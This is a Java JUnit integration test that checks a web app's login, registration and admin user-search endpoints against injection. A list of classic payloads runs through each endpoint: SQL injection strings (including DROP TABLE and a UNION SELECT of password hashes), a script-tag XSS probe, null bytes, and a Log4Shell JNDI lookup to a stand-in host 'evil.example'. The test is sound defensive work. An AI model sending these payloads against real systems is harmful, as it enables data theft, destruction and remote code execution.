package com.sundispatch.owasp;

import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;

import com.sundispatch.support.AnswersOnlyContract;
import com.sundispatch.support.Api;
import com.sundispatch.support.IntegrationTest;

import static org.assertj.core.api.Assertions.assertThat;

/** A03: classic payloads in every text field of login and registration: refused or inert, never a 500. */
@AnswersOnlyContract
class A03InjectionIT extends IntegrationTest {

    private static final List<String> PAYLOADS = List.of("' OR '1'='1", "admin@example.test' --",
            "\"; DROP TABLE users; --", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}",
            "%00", "\u0000", "' UNION SELECT password_hash FROM users --");

    @Test
    void loginWithInjectionPayloadsThenRefusedNever500() {
        for (String p : PAYLOADS) {
            Api.Response email = api.post("/api/v1/auth/login", Map.of("email", p, "password", p));
            assertThat(email.status()).as(p).isIn(400, 401);
        }
        // The users table is still there and works.
        String user = registerCustomer();
        assertThat(api.post("/api/v1/auth/login", Map.of("email", user, "password", PASSWORD)).status())
                .isEqualTo(200);
    }

    @Test
    void registerWithInjectionPayloadsThenRefusedNever500() {
        for (String p : PAYLOADS) {
            Api.Response r = api.post("/api/v1/auth/register",
                    Map.of("email", p, "password", PASSWORD, "fullName", p));
            assertThat(r.status()).as(p).isEqualTo(400);
            Api.Response nameOnly = api.post("/api/v1/auth/register",
                    Map.of("email", uniqueEmail(), "password", PASSWORD, "fullName", p));
            assertThat(nameOnly.status()).as(p).isEqualTo(400);
        }
    }

    @Test
    void adminSearchWithInjectionPayloadsThenInert() {
        String admin = adminToken();
        for (String p : PAYLOADS) {
            if (p.isBlank() || p.trim().isEmpty()) {
                continue; // a blank search lists everyone, as it should
            }
            Api.Response r = api.get("/api/v1/admin/users?q=" + java.net.URLEncoder.encode(p,
                    java.nio.charset.StandardCharsets.UTF_8), admin);
            assertThat(r.status()).as(p).isEqualTo(200);
            assertThat(r.json().path("totalItems").asLong()).as(p).isZero();
        }
    }
}
